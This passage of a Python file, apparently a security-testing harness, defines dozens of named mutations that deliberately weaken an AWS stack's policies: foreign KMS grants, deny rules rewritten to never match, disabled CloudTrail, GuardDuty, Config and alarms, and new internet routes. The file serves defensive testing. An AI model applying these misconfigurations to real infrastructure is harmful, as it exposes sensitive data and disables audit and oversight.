    _grant(s, "data-key-partner", "data", FOREIGN_ROLE, ["Decrypt", "DescribeKey"])


@weakening("pf-kms-grant-foreign-root-logs", "policy-forms", "KMS Grant on the logs key to a foreign account root")
def _(s: Stack) -> None:
    _grant(s, "logs-key-siem", "logs", FOREIGN_ROOT, ["Decrypt"])


@weakening(
    "pf-kms-grant-foreign-create-grant",
    "policy-forms",
    "KMS Grant on the compute key to a foreign user, including CreateGrant (re-delegable)",
)
def _(s: Stack) -> None:
    _grant(
        s,
        "compute-key-vendor",
        "compute",
        f"arn:aws:iam::{FOREIGN}:user/ops",
        ["CreateGrant", "Decrypt", "GenerateDataKey"],
        retiringPrincipal=f"arn:aws:iam::{FOREIGN}:user/ops",
    )


@weakening(
    "pf-topic-policy-public-subscribe",
    "policy-forms",
    "security alarm topic policy lets Principal {AWS: *} subscribe (alarms readable by anyone)",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        "aws:sns/topicPolicy:TopicPolicy",
        "audit-alarms",
        {
            "Sid": "AnyoneSubscribes",
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": "sns:Subscribe",
            "Resource": get(s.find("aws:sns/topicPolicy:TopicPolicy", "audit-alarms"), "arn"),
        },
    )


# ==================================================================================================
# narrowed-deny: the deny is still there, but it no longer covers what it should


def _sid(s: Stack, bucket_policy: str, sid: str, fn: Callable[[dict], None]) -> None:
    edit_statement(s, BUCKET_POLICY, bucket_policy, sid, fn)


def _to_not_principal(principals: Any) -> Callable[[dict], None]:
    def change(st: dict) -> None:
        st.pop("Principal")
        st["NotPrincipal"] = {"AWS": principals}

    return change


@weakening(
    "nd-tls-deny-named-principal", "narrowed-deny", "variants TLS deny applies to one named role instead of Principal *"
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-variants-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Principal={"AWS": s.role_arn("operators-admin")}),
    )


@weakening(
    "nd-tls-deny-bucket-arn-only", "narrowed-deny", "bcl TLS deny covers the bucket ARN only, not its objects (/*)"
)
def _(s: Stack) -> None:
    _sid(s, "data-bcl-policy", "DenyInsecureTransport", lambda st: st.update(Resource=s.bucket_arn("data-bcl")))


@weakening(
    "nd-tls-deny-null-operator",
    "narrowed-deny",
    "results TLS deny condition changed to Null aws:SecureTransport=true (key always present: never matches)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-results-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Condition={"Null": {"aws:SecureTransport": "true"}}),
    )


@weakening(
    "nd-tls-deny-string-case",
    "narrowed-deny",
    "alignments TLS deny condition as StringEquals aws:SecureTransport=False (case never matches 'false')",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-alignments-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Condition={"StringEquals": {"aws:SecureTransport": "False"}}),
    )


@weakening(
    "nd-tls-deny-account-principal-audit",
    "narrowed-deny",
    "audit bucket TLS deny principal narrowed to this account's root (other accounts exempt)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        BUCKET_POLICY,
        "audit-bucket-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Principal={"AWS": f"arn:aws:iam::{s.account}:root"}),
    )


@weakening(
    "nd-tls-version-deny-never",
    "narrowed-deny",
    "access-log bucket outdated-TLS deny compares s3:TlsVersion < 1.0 (never true)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-access-logs-policy",
        "DenyOutdatedTls",
        lambda st: st.update(Condition={"NumericLessThan": {"s3:TlsVersion": "1.0"}}),
    )


@weakening(
    "nd-tls-version-deny-operator-flipped",
    "narrowed-deny",
    "variants outdated-TLS deny uses NumericGreaterThan 1.3 (never true)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-variants-policy",
        "DenyOutdatedTls",
        lambda st: st.update(Condition={"NumericGreaterThan": {"s3:TlsVersion": "1.3"}}),
    )


@weakening(
    "nd-vpce-deny-exempt-foreign-role",
    "narrowed-deny",
    "alignments VPC-endpoint deny also exempts a foreign account's role (ArnNotLike aws:PrincipalArn)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-alignments-policy",
        "DenyAccessOutsideVpcEndpoint",
        lambda st: st["Condition"]["ArnNotLike"]["aws:PrincipalArn"].append(FOREIGN_ROLE),
    )


@weakening(
    "nd-vpce-deny-exempt-any-account-same-name",
    "narrowed-deny",
    "variants VPC-endpoint deny exempts arn:aws:iam::*:role/glz-demo-admin (that name in any account)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        arns = st["Condition"]["ArnNotLike"]["aws:PrincipalArn"]
        arns[arns.index(s.role_arn("operators-admin"))] = "arn:aws:iam::*:role/glz-demo-admin"

    _sid(s, "data-variants-policy", "DenyAccessOutsideVpcEndpoint", change)


@weakening(
    "nd-vpce-deny-stringnotequals-principal",
    "narrowed-deny",
    "fastq VPC-endpoint deny gains StringNotEquals aws:PrincipalArn <foreign role> (that role exempt)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-fastq-policy",
        "DenyAccessOutsideVpcEndpoint",
        lambda st: st["Condition"]["StringNotEquals"].update({"aws:PrincipalArn": FOREIGN_ROLE}),
    )


@weakening(
    "nd-vpce-deny-any-endpoint-like",
    "narrowed-deny",
    "results VPC-endpoint deny as StringNotLike aws:SourceVpce vpce-* (any endpoint, any account's VPC)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        st["Condition"].pop("StringNotEquals")
        st["Condition"]["StringNotLike"] = {"aws:SourceVpce": "vpce-*"}

    _sid(s, "data-results-policy", "DenyAccessOutsideVpcEndpoint", change)


@weakening(
    "nd-vpce-deny-service-principals-only",
    "narrowed-deny",
    "bcl VPC-endpoint deny condition aws:PrincipalIsAWSService flipped to true (applies to no user)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-bcl-policy",
        "DenyAccessOutsideVpcEndpoint",
        lambda st: st["Condition"]["Bool"].update({"aws:PrincipalIsAWSService": "true"}),
    )


@weakening(
    "nd-vpce-deny-notprincipal-form",
    "narrowed-deny",
    "reference VPC-endpoint deny written with NotPrincipal [foreign account]: that account is exempt",
)
def _(s: Stack) -> None:
    _sid(s, "data-reference-policy", "DenyAccessOutsideVpcEndpoint", _to_not_principal([FOREIGN_ROOT]))


@weakening(
    "nd-vpce-deny-objects-only",
    "narrowed-deny",
    "variants VPC-endpoint deny covers objects only: bucket-level calls (ListBucket, policy) from anywhere",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-variants-policy",
        "DenyAccessOutsideVpcEndpoint",
        lambda st: st.update(Resource=[f"{s.bucket_arn('data-variants')}/*"]),
    )


@weakening(
    "nd-audit-destruction-deny-bucket-only",
    "narrowed-deny",
    "audit bucket record-destruction deny covers the bucket ARN only (DeleteObject on objects not denied)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        BUCKET_POLICY,
        "audit-bucket-policy",
        "DenyAuditRecordDestruction",
        lambda st: st.update(Resource=s.bucket_arn("audit-bucket")),
    )


@weakening(
    "nd-audit-destruction-deny-named-principal",
    "narrowed-deny",
    "audit bucket record-destruction deny applies to the auditor role only",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        BUCKET_POLICY,
        "audit-bucket-policy",
        "DenyAuditRecordDestruction",
        lambda st: st.update(Principal={"AWS": s.role_arn("operators-auditor")}),
    )


@weakening(
    "nd-audit-destruction-deny-notprincipal-admin",
    "narrowed-deny",
    "audit bucket record-destruction deny as NotPrincipal [admin role and session]: admin may destroy",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        BUCKET_POLICY,
        "audit-bucket-policy",
        "DenyAuditRecordDestruction",
        _to_not_principal(
            [s.role_arn("operators-admin"), f"arn:aws:sts::{s.account}:assumed-role/glz-demo-admin/break-glass"]
        ),
    )


@weakening(
    "nd-kms-key-deny-any-key-like",
    "narrowed-deny",
    "audit bucket other-key deny as StringNotLikeIfExists arn:aws:kms:* (any key of any account accepted)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        BUCKET_POLICY,
        "audit-bucket-policy",
        "DenyOtherKmsKeys",
        lambda st: st.update(
            Condition={"StringNotLikeIfExists": {"s3:x-amz-server-side-encryption-aws-kms-key-id": "arn:aws:kms:*"}}
        ),
    )


@weakening(
    "nd-kms-key-deny-notprincipal-foreign",
    "narrowed-deny",
    "results other-key deny as NotPrincipal [foreign account]: it may encrypt with its own key",
)
def _(s: Stack) -> None:
    _sid(s, "data-results-policy", "DenyOtherKmsKeys", _to_not_principal(FOREIGN_ROOT))


@weakening(
    "nd-sse-deny-accepts-aes256",
    "narrowed-deny",
    "variants non-KMS deny also accepts AES256 (SSE-S3 uploads bypass the data key)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-variants-policy",
        "DenyNonKmsEncryption",
        lambda st: st.update(
            Condition={"StringNotEqualsIfExists": {"s3:x-amz-server-side-encryption": ["aws:kms", "AES256"]}}
        ),
    )


@weakening(
    "nd-threat-read-deny-case-value",
    "narrowed-deny",
    "bcl THREATS_FOUND read deny compares StringEquals to 'threats_found' (case never matches)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-bcl-policy",
        "DenyReadingObjectsWithThreats",
        lambda st: st["Condition"]["StringEquals"].update(
            {"s3:ExistingObjectTag/GuardDutyMalwareScanStatus": "threats_found"}
        ),
    )


@weakening(
    "nd-threat-read-deny-exempt-collaborator",
    "narrowed-deny",
    "results THREATS_FOUND read deny also exempts the pharmaco collaborator role",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-results-policy",
        "DenyReadingObjectsWithThreats",
        lambda st: st["Condition"]["ArnNotLike"]["aws:PrincipalArn"].append(
            s.role_arn("collaborators-pharmaco-analytics")
        ),
    )


@weakening(
    "nd-threat-read-deny-bucket-arn",
    "narrowed-deny",
    "fastq THREATS_FOUND read deny on the bucket ARN (GetObject is on objects: never matches)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-fastq-policy",
        "DenyReadingObjectsWithThreats",
        lambda st: st.update(Resource=s.bucket_arn("data-fastq")),
    )


@weakening(
    "nd-scan-tag-deny-case-sensitive",
    "narrowed-deny",
    "reference scan-status tag deny as ForAnyValue:StringEquals (a lower-case key slips through)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        st["Condition"]["ForAnyValue:StringEquals"] = st["Condition"].pop("ForAnyValue:StringEqualsIgnoreCase")

    _sid(s, "data-reference-policy", "DenyScanStatusTagFromAnyoneButGuardDuty", change)


@weakening(
    "nd-scan-tag-deny-forallvalues",
    "narrowed-deny",
    "bcl scan-status tag deny as ForAllValues (an upload with one more tag is not denied)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        st["Condition"]["ForAllValues:StringEqualsIgnoreCase"] = st["Condition"].pop(
            "ForAnyValue:StringEqualsIgnoreCase"
        )

    _sid(s, "data-bcl-policy", "DenyScanStatusTagFromAnyoneButGuardDuty", change)


@weakening(
    "nd-retag-deny-exempt-role-pattern",
    "narrowed-deny",
    "fastq retag deny exempts arn:aws:iam::<account>:role/* (every role may strip THREATS_FOUND)",
)
def _(s: Stack) -> None:
    _sid(
        s,
        "data-fastq-policy",
        "DenyRetaggingScannedObjects",
        lambda st: st["Condition"]["ArnNotLike"]["aws:PrincipalArn"].append(f"arn:aws:iam::{s.account}:role/*"),
    )


@weakening(
    "nd-efs-tls-deny-named-principal",
    "narrowed-deny",
    "EFS file system policy TLS deny applies to the alignment job role only",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        EFS_POLICY,
        "compute-reference-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Principal={"AWS": s.role_arn("compute-job-alignment")}),
    )


@weakening(
    "nd-efs-tls-deny-null",
    "narrowed-deny",
    "EFS TLS deny condition changed to Null aws:SecureTransport=true (never matches)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        EFS_POLICY,
        "compute-reference-policy",
        "DenyInsecureTransport",
        lambda st: st.update(Condition={"Null": {"aws:SecureTransport": "true"}}),
    )


@weakening(
    "nd-auditor-deny-decrypt-wrong-key",
    "narrowed-deny",
    "auditor's data-decrypt deny points at the compute key (the guard against reading genomic data is gone)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "operators-auditor-evidence",
        "DenyDataDecryption",
        lambda st: st.update(Resource=s.key_arn("compute")),
    )


@weakening(
    "nd-auditor-deny-data-read-missing-tier",
    "narrowed-deny",
    "auditor's genomic-data read deny no longer lists the variants bucket",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "operators-auditor-evidence",
        "DenyReadingGenomicData",
        lambda st: st["Resource"].remove(f"{s.bucket_arn('data-variants')}/*"),
    )


@weakening(
    "nd-admin-guardrail-trail-wrong-arn",
    "narrowed-deny",
    "admin's trail-tampering deny scoped to a trail ARN that does not exist (glz-demo, not glz-demo-trail)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "operators-admin-guardrails",
        "DenyTrailTampering",
        lambda st: st.update(Resource=f"arn:aws:cloudtrail:{s.region}:{s.account}:trail/glz-demo"),
    )


@weakening(
    "nd-admin-guardrail-audit-bucket-only",
    "narrowed-deny",
    "admin's audit-bucket tampering deny covers the bucket ARN only (object deletes allowed)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "operators-admin-guardrails",
        "DenyAuditBucketTampering",
        lambda st: st.update(Resource=[s.bucket_arn("audit-bucket")]),
    )


@weakening(
    "nd-admin-guardrail-key-missing-logs", "narrowed-deny", "admin's key-destruction deny no longer lists the logs key"
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "operators-admin-guardrails",
        "DenyKeyDestruction",
        lambda st: st["Resource"].remove(s.key_arn("logs")),
    )


# ==================================================================================================
# hollow-services: the service exists but does not do its job


@weakening(
    "hs-securityhub-no-standards",
    "hollow-services",
    "Security Hub enabled with no standards subscription (both subscriptions removed)",
)
def _(s: Stack) -> None:
    s.remove(STANDARDS, "security-standard-aws-foundational")
    s.remove(STANDARDS, "security-standard-nist-800-171")


@weakening(
    "hs-securityhub-nist-standard-removed",
    "hollow-services",
    "Security Hub without the NIST SP 800-171 standard subscription",
)
def _(s: Stack) -> None:
    s.remove(STANDARDS, "security-standard-nist-800-171")


@weakening(
    "hs-securityhub-standard-other",
    "hollow-services",
    "the NIST 800-171 subscription now subscribes the CIS 1.2 standard (NIST controls not evaluated)",
)
def _(s: Stack) -> None:
    put(
        s.find(STANDARDS, "security-standard-nist-800-171"),
        "standardsArn",
        "arn:aws:securityhub:::ruleset/cis-aws-foundations-benchmark/v/1.2.0",
    )


@weakening(
    "hs-securityhub-auto-controls-off",
    "hollow-services",
    "Security Hub autoEnableControls false (new controls of subscribed standards stay off)",
)
def _(s: Stack) -> None:
    put(s.find("aws:securityhub/account:Account", "security-securityhub"), "autoEnableControls", False)


@weakening(
    "hs-analyzer-unused-access",
    "hollow-services",
    "Access Analyzer of type ACCOUNT_UNUSED_ACCESS (no external-access findings)",
)
def _(s: Stack) -> None:
    put(s.find("aws:accessanalyzer/analyzer:Analyzer", "security-access-analyzer"), "type", "ACCOUNT_UNUSED_ACCESS")


@weakening(
    "hs-analyzer-internal-access",
    "hollow-services",
    "Access Analyzer of type ACCOUNT_INTERNAL_ACCESS (internal only, no external-access findings)",
)
def _(s: Stack) -> None:
    put(s.find("aws:accessanalyzer/analyzer:Analyzer", "security-access-analyzer"), "type", "ACCOUNT_INTERNAL_ACCESS")


@weakening("hs-guardduty-detector-disabled", "hollow-services", "GuardDuty detector enable=false")
def _(s: Stack) -> None:
    put(s.find("aws:guardduty/detector:Detector", "security-guardduty"), "enable", False)


@weakening("hs-guardduty-six-hours", "hollow-services", "GuardDuty findingPublishingFrequency SIX_HOURS")
def _(s: Stack) -> None:
    put(s.find("aws:guardduty/detector:Detector", "security-guardduty"), "findingPublishingFrequency", "SIX_HOURS")


@weakening("hs-guardduty-s3-feature-disabled", "hollow-services", "GuardDuty S3_DATA_EVENTS feature status DISABLED")
def _(s: Stack) -> None:
    put(s.find(DETECTOR_FEATURE, "security-guardduty-s3-data-events"), "status", "DISABLED")


@weakening(
    "hs-guardduty-ebs-malware-disabled", "hollow-services", "GuardDuty EBS_MALWARE_PROTECTION feature status DISABLED"
)
def _(s: Stack) -> None:
    put(s.find(DETECTOR_FEATURE, "security-guardduty-ebs-malware-protection"), "status", "DISABLED")


@weakening("hs-guardduty-s3-feature-removed", "hollow-services", "GuardDuty S3_DATA_EVENTS feature resource removed")
def _(s: Stack) -> None:
    s.remove(DETECTOR_FEATURE, "security-guardduty-s3-data-events")


@weakening(
    "hs-guardduty-feature-renamed",
    "hollow-services",
    "the S3 protection feature resource now enables RDS_LOGIN_EVENTS (S3 data events off)",
)
def _(s: Stack) -> None:
    put(s.find(DETECTOR_FEATURE, "security-guardduty-s3-data-events"), "name", "RDS_LOGIN_EVENTS")


@weakening(
    "hs-malware-plan-prefix-only",
    "hollow-services",
    "fastq malware protection plan scans objectPrefixes [incoming/] only",
)
def _(s: Stack) -> None:
    edit(
        s.find(MALWARE_PLAN, "security-malware-scan-fastq-plan"),
        "protectedResource",
        lambda pr: pr["s3Bucket"].update(objectPrefixes=["incoming/"]),
    )


@weakening(
    "hs-malware-plan-other-bucket",
    "hollow-services",
    "fastq malware protection plan protects the bcl bucket (fastq unscanned, bcl twice)",
)
def _(s: Stack) -> None:
    edit(
        s.find(MALWARE_PLAN, "security-malware-scan-fastq-plan"),
        "protectedResource",
        lambda pr: pr["s3Bucket"].update(bucketName=s.bucket("data-bcl")),
    )


@weakening(
    "hs-malware-plan-tagging-disabled",
    "hollow-services",
    "results malware protection plan tagging DISABLED (the THREATS_FOUND guards never fire)",
)
def _(s: Stack) -> None:
    put(s.find(MALWARE_PLAN, "security-malware-scan-results-plan"), "actions", [{"taggings": [{"status": "DISABLED"}]}])


def _trail(s: Stack) -> dict:
    return s.find(TRAIL, "audit")


def _selector(selectors: list[dict], category: str) -> dict:
    """The advanced event selector whose eventCategory equals `category` (Management or Data)."""
    return next(
        sel
        for sel in selectors
        if any(f["field"] == "eventCategory" and f.get("equals") == [category] for f in sel["fieldSelectors"])
    )


def _data_resources(s: Stack) -> list[dict]:
    tiers = ("bcl", "fastq", "alignments", "variants", "reference", "results")
    return [{"type": "AWS::S3::Object", "values": [f"{s.bucket_arn('data-' + t)}/" for t in tiers]}]


@weakening(
    "hs-trail-mgmt-selector-removed",
    "hollow-services",
    "trail advanced selectors keep only the data-event selector (no management events)",
)
def _(s: Stack) -> None:
    def change(selectors: list) -> None:
        selectors.remove(_selector(selectors, "Management"))

    edit(_trail(s), "advancedEventSelectors", change)


@weakening(
    "hs-trail-mgmt-readonly-only",
    "hollow-services",
    "management selector adds readOnly=true: only read-only management calls recorded, no changes",
)
def _(s: Stack) -> None:
    edit(
        _trail(s),
        "advancedEventSelectors",
        lambda sel: _selector(sel, "Management")["fieldSelectors"].append({"field": "readOnly", "equals": ["true"]}),
    )


@weakening(
    "hs-trail-mgmt-excludes-iam",
    "hollow-services",
    "management selector excludes eventSource iam.amazonaws.com (IAM changes unrecorded)",
)
def _(s: Stack) -> None:
    edit(
        _trail(s),
        "advancedEventSelectors",
        lambda sel: _selector(sel, "Management")["fieldSelectors"].append(
            {"field": "eventSource", "notEquals": ["iam.amazonaws.com"]}
        ),
    )


@weakening(
    "hs-trail-basic-selector-no-mgmt",
    "hollow-services",
    "trail uses eventSelectors with includeManagementEvents=false (advanced selectors dropped)",
)
def _(s: Stack) -> None:
    trail = _trail(s)
    drop(trail, "advancedEventSelectors")
    put(
        trail,
        "eventSelectors",
        [{"includeManagementEvents": False, "readWriteType": "All", "dataResources": _data_resources(s)}],
    )


@weakening(
    "hs-trail-basic-selector-writeonly",
    "hollow-services",
    "trail uses eventSelectors readWriteType WriteOnly (reads of genomic data unrecorded)",
)
def _(s: Stack) -> None:
    trail = _trail(s)
    drop(trail, "advancedEventSelectors")
    put(
        trail,
        "eventSelectors",
        [{"includeManagementEvents": True, "readWriteType": "WriteOnly", "dataResources": _data_resources(s)}],
    )


@weakening(
    "hs-trail-data-readonly-false",
    "hollow-services",
    "data-event selector adds readOnly=false: object reads (GetObject) are dropped",
)
def _(s: Stack) -> None:
    edit(
        _trail(s),
        "advancedEventSelectors",
        lambda sel: _selector(sel, "Data")["fieldSelectors"].append({"field": "readOnly", "equals": ["false"]}),
    )


@weakening(
    "hs-trail-data-bucket-missing", "hollow-services", "data-event selector no longer covers the variants bucket"
)
def _(s: Stack) -> None:
    def change(sel: list) -> None:
        arns = next(f for f in _selector(sel, "Data")["fieldSelectors"] if f["field"] == "resources.ARN")["startsWiths"]
        arns.remove(f"{s.bucket_arn('data-variants')}/")

    edit(_trail(s), "advancedEventSelectors", change)


@weakening(
    "hs-trail-data-getobject-excluded",
    "hollow-services",
    "data-event selector excludes eventName GetObject (downloads unrecorded)",
)
def _(s: Stack) -> None:
    edit(
        _trail(s),
        "advancedEventSelectors",
        lambda sel: _selector(sel, "Data")["fieldSelectors"].append({"field": "eventName", "notEquals": ["GetObject"]}),
    )


@weakening(
    "hs-trail-cwlogs-elsewhere",
    "hollow-services",
    "trail delivers to another log group (cut off from the group that feeds every alarm)",
)
def _(s: Stack) -> None:
    put(
        _trail(s),
        "cloudWatchLogsGroupArn",
        f"arn:aws:logs:{s.region}:{s.account}:log-group:/glz/demo/cloudtrail-archive:*",
    )


@weakening(
    "hs-trail-cwlogs-removed", "hollow-services", "trail without CloudWatch Logs delivery (group and role ARNs removed)"
)
def _(s: Stack) -> None:
    trail = _trail(s)
    drop(trail, "cloudWatchLogsGroupArn")
    drop(trail, "cloudWatchLogsRoleArn")


@weakening("hs-trail-logging-off", "hollow-services", "trail enableLogging=false")
def _(s: Stack) -> None:
    put(_trail(s), "enableLogging", False)


@weakening("hs-trail-single-region", "hollow-services", "trail isMultiRegionTrail=false")
def _(s: Stack) -> None:
    put(_trail(s), "isMultiRegionTrail", False)


@weakening(
    "hs-trail-no-global-events",
    "hollow-services",
    "trail includeGlobalServiceEvents=false (IAM and STS events are global)",
)
def _(s: Stack) -> None:
    put(_trail(s), "includeGlobalServiceEvents", False)


@weakening("hs-trail-no-validation", "hollow-services", "trail enableLogFileValidation=false")
def _(s: Stack) -> None:
    put(_trail(s), "enableLogFileValidation", False)


@weakening(
    "hs-trail-other-bucket", "hollow-services", "trail delivers to a bucket outside the stack (not Object-Locked)"
)
def _(s: Stack) -> None:
    put(_trail(s), "s3BucketName", f"central-cloudtrail-{s.account}")


@weakening(
    "hs-metric-filter-other-group", "hollow-services", "IAM-policy-change metric filter reads the Batch job log group"
)
def _(s: Stack) -> None:
    put(s.find(METRIC_FILTER, "audit-iam-policy-changes"), "logGroupName", "/aws/batch/glz-demo-jobs")


@weakening(
    "hs-metric-filter-flow-log-group", "hollow-services", "root-usage metric filter reads the VPC flow-log group"
)
def _(s: Stack) -> None:
    put(s.find(METRIC_FILTER, "audit-root-account-usage"), "logGroupName", "/glz/demo/vpc-flow-logs")


@weakening(
    "hs-metric-filter-metric-renamed",
    "hollow-services",
    "unauthorized-API-call filter emits metric UnauthorizedApiCallsV2; the alarm watches the old name",
)
def _(s: Stack) -> None:
    edit(
        s.find(METRIC_FILTER, "audit-unauthorized-api-calls"),
        "metricTransformation",
        lambda mt: mt.update(name="UnauthorizedApiCallsV2"),
    )


@weakening(
    "hs-metric-filter-pattern-never",
    "hollow-services",
    "CloudTrail-change filter pattern requires two different eventNames at once (never matches)",
)
def _(s: Stack) -> None:
    put(
        s.find(METRIC_FILTER, "audit-cloudtrail-changes"),
        "pattern",
        "{ ($.eventName = CreateTrail) && ($.eventName = StopLogging) }",
    )


@weakening("hs-alarm-actions-disabled", "hollow-services", "root-account-usage alarm actionsEnabled=false")
def _(s: Stack) -> None:
    put(s.find(ALARM, "audit-root-account-usage"), "actionsEnabled", False)


@weakening("hs-alarm-no-actions", "hollow-services", "IAM-policy-change alarm with alarmActions []")
def _(s: Stack) -> None:
    put(s.find(ALARM, "audit-iam-policy-changes"), "alarmActions", [])


@weakening(
    "hs-alarm-actions-other-topic",
    "hollow-services",
    "console-without-MFA alarm notifies a topic outside the stack (unencrypted, unsubscribed)",
)
def _(s: Stack) -> None:
    put(
        s.find(ALARM, "audit-console-signin-without-mfa"),
        "alarmActions",
        [f"arn:aws:sns:{s.region}:{s.account}:glz-demo-unused"],
    )


@weakening(
    "hs-alarm-namespace-wrong",
    "hollow-services",
    "security-group-change alarm watches namespace AWS/CloudTrail (the filter publishes to GLZ/Security)",
)
def _(s: Stack) -> None:
    put(s.find(ALARM, "audit-security-group-changes"), "namespace", "AWS/CloudTrail")


@weakening("hs-alarm-threshold-high", "hollow-services", "CloudTrail-change alarm threshold 1000 in 5 minutes")
def _(s: Stack) -> None:
    put(s.find(ALARM, "audit-cloudtrail-changes"), "threshold", 1000)


@weakening("hs-alarm-removed", "hollow-services", "KMS-key-disabled alarm removed (its metric filter stays)")
def _(s: Stack) -> None:
    s.remove(ALARM, "audit-kms-key-disabled-or-deleted")


@weakening("hs-sns-subscription-removed", "hollow-services", "the security alarm topic has no subscription")
def _(s: Stack) -> None:
    s.remove("aws:sns/topicSubscription:TopicSubscription", "audit-alarms-email")


@weakening("hs-config-recorder-off", "hollow-services", "Config RecorderStatus isEnabled=false")
def _(s: Stack) -> None:
    put(s.find("aws:cfg/recorderStatus:RecorderStatus", "security-config-recorder-status"), "isEnabled", False)


def _recorder(s: Stack) -> dict:
    return s.find("aws:cfg/recorder:Recorder", "security-config-recorder")


@weakening(
    "hs-config-exclude-types",
    "hollow-services",
    "Config recording group excludes IAM roles/policies and S3 buckets (EXCLUSION_BY_RESOURCE_TYPES)",
)
def _(s: Stack) -> None:
    put(
        _recorder(s),
        "recordingGroup",
        {
            "allSupported": False,
            "includeGlobalResourceTypes": False,
            "exclusionByResourceTypes": [{"resourceTypes": ["AWS::IAM::Role", "AWS::IAM::Policy", "AWS::S3::Bucket"]}],
            "recordingStrategies": [{"useOnly": "EXCLUSION_BY_RESOURCE_TYPES"}],
        },
    )


@weakening("hs-config-only-some-types", "hollow-services", "Config records only AWS::EC2::Instance")
def _(s: Stack) -> None:
    put(
        _recorder(s),
        "recordingGroup",
        {
            "allSupported": False,
            "includeGlobalResourceTypes": False,
            "resourceTypes": ["AWS::EC2::Instance"],
            "recordingStrategies": [{"useOnly": "INCLUSION_BY_RESOURCE_TYPES"}],
        },
    )


@weakening("hs-config-no-global-types", "hollow-services", "Config includeGlobalResourceTypes=false (IAM unrecorded)")
def _(s: Stack) -> None:
    edit(_recorder(s), "recordingGroup", lambda g: g.update(includeGlobalResourceTypes=False))


@weakening("hs-config-delivery-foreign-bucket", "hollow-services", "Config delivery channel writes to a foreign bucket")
def _(s: Stack) -> None:
    put(
        s.find("aws:cfg/deliveryChannel:DeliveryChannel", "security-config-delivery"),
        "s3BucketName",
        f"config-central-{FOREIGN}",
    )


def _edit_pack(s: Stack, fn: Callable[[dict], None]) -> None:
    pack = s.find("aws:cfg/conformancePack:ConformancePack", "security-conformance-pack")
    template = yaml.safe_load(get(pack, "templateBody"))
    fn(template)
    put(pack, "templateBody", yaml.safe_dump(template, sort_keys=False, width=1000))


@weakening(
    "hs-conformance-pack-rule-removed",
    "hollow-services",
    "conformance pack without the no-unrestricted-route-to-igw rule",
)
def _(s: Stack) -> None:
    _edit_pack(s, lambda t: t["Resources"].pop("NoUnrestrictedRouteToIgw"))


@weakening(
    "hs-conformance-pack-key-age", "hollow-services", "conformance pack access-keys-rotated maxAccessKeyAge 3650 days"
)
def _(s: Stack) -> None:
    _edit_pack(
        s, lambda t: t["Resources"]["AccessKeysRotated"]["Properties"]["InputParameters"].update(maxAccessKeyAge="3650")
    )


@weakening("hs-inspector-ec2-only", "hollow-services", "Inspector enabler resourceTypes [EC2] (ECR images unscanned)")
def _(s: Stack) -> None:
    put(s.find("aws:inspector2/enabler:Enabler", "security-inspector"), "resourceTypes", ["EC2"])


@weakening("hs-flowlog-reject-only", "hollow-services", "VPC flow log trafficType REJECT (accepted flows unrecorded)")
def _(s: Stack) -> None:
    put(s.find("aws:ec2/flowLog:FlowLog", "network-flow-log"), "trafficType", "REJECT")


@weakening("hs-flowlog-other-vpc", "hollow-services", "VPC flow log attached to another VPC (this VPC unlogged)")
def _(s: Stack) -> None:
    put(s.find("aws:ec2/flowLog:FlowLog", "network-flow-log"), "vpcId", "vpc-0a1b2c3d4e5f60718")


@weakening("hs-password-policy-weak", "hollow-services", "account password policy minimumPasswordLength 8")
def _(s: Stack) -> None:
    policy = s.find("aws:iam/accountPasswordPolicy:AccountPasswordPolicy", "security-password-policy")
    put(policy, "minimumPasswordLength", 8)


# ==================================================================================================
# network-paths: a way out built next to the stack


@weakening(
    "np-route-igw-id",
    "network-paths",
    "aws:ec2/route:Route 0.0.0.0/0 from a private route table to an internet gateway given by ID",
)
def _(s: Stack) -> None:
    add_route(s, "private-a-internet", "network-private-us-east-1a", {"gatewayId": "igw-0a1b2c3d4e5f67890"})


@weakening("np-route-nat-id", "network-paths", "Route 0.0.0.0/0 to a NAT gateway given by ID (stack egress is none)")
def _(s: Stack) -> None:
    add_route(s, "private-b-nat", "network-private-us-east-1b", {"natGatewayId": "nat-0a1b2c3d4e5f67890"})


@weakening("np-route-tgw-id", "network-paths", "Route 0.0.0.0/0 to a transit gateway given by ID")
def _(s: Stack) -> None:
    add_route(s, "private-c-tgw", "network-private-us-east-1c", {"transitGatewayId": "tgw-0a1b2c3d4e5f67890"})


@weakening("np-route-peering-id", "network-paths", "Route to a peered VPC (pcx-...) of another account, 10.99.0.0/16")
def _(s: Stack) -> None:
    add_route(
        s,
        "private-a-peer",
